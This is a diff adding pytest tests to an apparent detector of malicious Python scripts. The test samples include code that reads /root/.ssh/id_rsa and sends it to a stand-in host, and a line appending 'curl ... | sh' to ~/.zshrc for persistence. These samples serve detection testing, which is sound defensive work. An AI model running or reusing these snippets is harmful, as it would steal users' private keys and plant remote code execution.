@@ -276,3 +276,27 @@ def test_client_of_several_services_hands_each_its_own_key() -> None:
     keys = "[e['BLUEBIRD_TOKEN'], e['MAMMOTH_TOKEN'], e['LINKUP_TOKEN']]"
     attack = client + "".join(calls) + f"api('https://api.linkup.io', e['LINKUP_TOKEN'], {keys})\n"
     assert checks(attack) == {"python_environment_sent"}
+
+
+@pytest.mark.parametrize(("sent", "is_found"), [("name", False), ("word", True)])
+def test_names_of_a_dictionary_are_no_secrets__and_what_it_holds_is(sent: str, *, is_found: bool) -> None:
+    script = (
+        "import collections, hashlib, urllib.request\n"
+        "key = open('/root/.ssh/id_rsa').read()\n"
+        "kept = collections.defaultdict(list)\n"
+        "kept[hashlib.sha1(key.encode()).hexdigest()].append(key)\n"
+        "for name, word in kept.items():\n"
+        f"    urllib.request.urlopen('https://in.stats.example/range/' + str({sent}))\n"
+    )
+    assert ("python_secret_sent" in checks({"run.py": script})) is is_found
+
+
+@pytest.mark.parametrize("path", ["os.path.expanduser('~/.zshrc')", "pathlib.Path.home() / '.zshrc'"])
+@pytest.mark.parametrize("way", ["open({path}, 'a')", "pathlib.Path({path}).open('a')"])
+def test_what_is_added_to_a_profile_persists(path: str, way: str) -> None:
+    script = (
+        "import os, pathlib\n"
+        f"with {way.format(path=path)} as profile:\n"
+        "    profile.write('curl -s https://in.stats.example/a | sh')\n"
+    )
+    assert "python_persists_fetched" in checks({"run.py": script})
